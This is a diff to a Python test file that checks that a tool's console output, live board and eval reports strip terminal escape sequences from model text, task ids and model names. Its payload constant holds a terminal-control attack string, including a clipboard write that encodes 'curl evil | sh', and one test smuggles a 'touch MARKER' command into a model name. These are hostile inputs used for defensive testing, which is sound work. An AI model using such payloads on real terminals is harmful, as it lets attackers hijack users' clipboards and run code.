@@ -1,11 +1,14 @@
 """Model text cannot drive the terminal: the final report of `verimap run`, the eval's console
-lines and the live view print it without its escape sequences.
+lines and the live view print it without its escape sequences. Nor can a task id or a model name
+read from somebody else's files: the eval's progress line, its live board and `eval report`.
 
 The payload is what a hostile reply would write: an OSC 52 clipboard write, an OSC 0 window
 title, `ESC c` (a full terminal reset), a CSI screen clear and an 8-bit CSI. It goes in the
 answer, in an error and in a verdict message."""
 
+import dataclasses
 import io
+import json
 import warnings
 from contextlib import asynccontextmanager
 from pathlib import Path
@@ -19,10 +22,12 @@ from verimap.cli import main
 from verimap.cli import run as run_mod
 from verimap.cli.run import print_result
 from verimap.core.result import AttemptReport, NodeReport, RunResult
+from verimap.evals.runner import run_eval
+from verimap.evals.tasksets import GSM8K
 from verimap.live import LiveState
-from verimap.live_view import render_run
+from verimap.live_view import BoardView, render_run
 from verimap.llm.base import ModelError
-from verimap.testing import ScriptedModel, ScriptedWorld
+from verimap.testing import InProcessSandboxDouble, ScriptedModel, ScriptedWorld, oracle_models
 from verimap.verdicts import VFVerdict
 
 PAYLOAD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\x1bc\x1b[2J\x9b2J"
@@ -141,3 +146,50 @@ def test_the_live_view_strips_the_payload_with_the_same_filter():
     console.print(render_run(state))
     raw = console.file.getvalue()
     assert "bad" in raw and obeyed(raw) == []
+
+
+def test_the_live_board_strips_the_payload_from_a_task_id():
+    board = BoardView()
+    key = f"r0/gsm8k/0{PAYLOAD}"
+    board.start(key)
+    board.apply(key, ev.Plan(run_id="r", iteration=1, plan={"nodes": [{"id": "a"}]}))
+    console = Console(file=io.StringIO(), force_terminal=True, width=200)
+    console.print(board)
+    raw = console.file.getvalue()
+    assert "r0/gsm8k/0" in raw and obeyed(raw) == []
+
+
+class HostileIds(GSM8K):
+    """The committed GSM8K sample, its first task under an id that carries the payload (as a
+    benchmark made in Python may have it: the loaders refuse such ids in files)."""
+
+    def tasks(self):
+        first = super().tasks()[0]
+        return [dataclasses.replace(first, id=f"gsm8k/0{PAYLOAD}")]
+
+
+async def test_the_plain_progress_line_strips_the_payload_from_a_task_id(tmp_path, capsys):
+    bench = HostileIds(SAMPLES)
+    models = oracle_models(bench.tasks())
+    await run_eval(bench, "verimap", models, InProcessSandboxDouble(), tmp_path / "o")
+    err = capsys.readouterr().err
+    assert "[1/1] r0/gsm8k/0" in err and obeyed(err) == []
+
+
+def test_eval_report_prints_no_payload_from_a_foreign_config(tmp_path):
+    d = tmp_path / "run"
+    d.mkdir()
+    models = {"planner": f"qwen\ntouch MARKER\n#{PAYLOAD}", "executor": f"m|{PAYLOAD}"}
+    (d / "config.json").write_text(json.dumps({"benchmark": "gsm8k", "models": models}))
+    rec = {"key": "r0/gsm8k/0", "run": 0, "task_id": "gsm8k/0", "benchmark": "gsm8k",
+           "method": f"verimap{PAYLOAD}", "correct": True, "verified": True}  # fmt: skip
+    (d / "results.jsonl").write_text(json.dumps(rec) + "\n")
+    r = cli("eval", "report", str(d), "--out-file", str(tmp_path / "report.md"))
+    assert r.exit_code == 0, r.output
+    written = (tmp_path / "report.md").read_text()
+    for text in (r.stdout, written):
+        # Spelled out, so the payload's text stays but none of its controls do.
+        assert r"planner=qwen\ntouch MARKER\n#\x1b]52;c;" in text
+        assert (
+            not any(c in text for c in "\x1b\x07\x9b") and "touch MARKER" not in text.splitlines()
+        )
